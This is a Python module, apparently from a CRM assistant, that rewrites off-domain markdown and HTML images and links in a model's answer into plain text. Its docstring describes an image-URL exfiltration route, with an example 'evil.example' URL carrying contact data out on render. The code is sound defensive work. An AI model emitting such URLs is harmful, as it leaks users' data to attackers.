"""Defang markdown and HTML images and links that point off the workspace's own domains.

An image is fetched by the client as soon as the model's answer is rendered, so a URL such as
`https://evil.example/p.png?d=<the contacts>` carries data out without a click. Every image and
link to a host that is neither Attio nor one of the record's own domains is rewritten into
plain text that keeps the host visible: `![x](https://evil.example/p?d=1)` becomes
`[image removed: evil.example]` and `[deck](https://evil.example/d)` becomes `deck [evil.example]`.
Bare URLs are left alone (the detector scores those that carry data).
"""
from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Iterable
from urllib.parse import urlsplit

DEFAULT_ALLOWED = ("attio.com",)

MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,4000})>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)")
MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,4000})>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)")
MD_REFERENCE = re.compile(r"^([ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]*)<?(\S{1,4000}?)>?(?=[ \t]|$)", re.M)
HTML_IMAGE = re.compile(r"<img\b[^>]{0,2000}?\bsrc\s*=\s*[\"']?([^\"'\s>]{1,4000})[^>]{0,2000}>", re.I)
HTML_LINK = re.compile(r"<a\b[^>]{0,2000}?\bhref\s*=\s*[\"']?([^\"'\s>]{1,4000})[^>]{0,2000}>(.{0,500}?)</a\s*>",
                       re.I | re.S)
SAFE_SCHEMES = ("mailto", "tel")


@dataclass(frozen=True)
class Defang:
    """One rewrite: replace text[start:end] with `replacement`."""

    start: int
    end: int
    replacement: str
    kind: str  # "image" or "link"
    host: str
    has_query: bool


def host_of(url: str) -> tuple[str, str]:
    """(scheme, host) of a URL; a schemeless `//host/path` counts as https."""
    try:
        parts = urlsplit(url.strip())
        return parts.scheme.lower(), (parts.hostname or "").lower()
    except ValueError:
        return "", ""


def allowed(host: str, hosts: Iterable[str]) -> bool:
    """True when `host` is one of `hosts` or a subdomain of one."""
    host = host.lower().rstrip(".")
    return any(host == h or host.endswith("." + h) for h in hosts if h)


def _offsite(url: str, hosts: Iterable[str]) -> str | None:
    """The host to show when `url` must be defanged, else None."""
    scheme, host = host_of(url)
    if scheme in SAFE_SCHEMES:
        return None
    if not scheme and not host:
        return None  # a relative link stays inside whatever renders it
    if scheme in ("http", "https", "") and host and allowed(host, hosts):
        return None
    return host or f"{scheme or 'unknown'} link"


def find_offsite(text: str, hosts: Iterable[str]) -> list[Defang]:
    """Every off-site image or link in `text`, as non-overlapping rewrites in order."""
    if "](" not in text and "<" not in text and "]:" not in text:
        return []
    hosts = tuple(hosts)
    found: list[Defang] = []

    def add(start: int, end: int, url: str, kind: str, label: str) -> None:
        host = _offsite(url, hosts)
        if host is None or any(start < d.end and d.start < end for d in found):
            return
        if kind == "image":
            replacement = f"[image removed: {host}]"
        else:
            replacement = f"{label.strip()} [{host}]" if label.strip() else f"[link removed: {host}]"
        found.append(Defang(start, end, replacement, kind, host, "?" in url))

    for m in MD_IMAGE.finditer(text):
        add(m.start(), m.end(), m.group(2), "image", "")
    for m in HTML_IMAGE.finditer(text):
        add(m.start(), m.end(), m.group(1), "image", "")
    for m in MD_LINK.finditer(text):
        add(m.start(), m.end(), m.group(2), "link", m.group(1))
    for m in HTML_LINK.finditer(text):
        add(m.start(), m.end(), m.group(1), "link", re.sub(r"<[^>]*>", "", m.group(2)))
    for m in MD_REFERENCE.finditer(text):
        host = _offsite(m.group(2), hosts)
        if host is not None and not any(m.start(2) < d.end and d.start < m.end(2) for d in found):
            found.append(Defang(m.start(2), m.end(2), f"[link removed: {host}]", "link", host, "?" in m.group(2)))
    return sorted(found, key=lambda d: d.start)
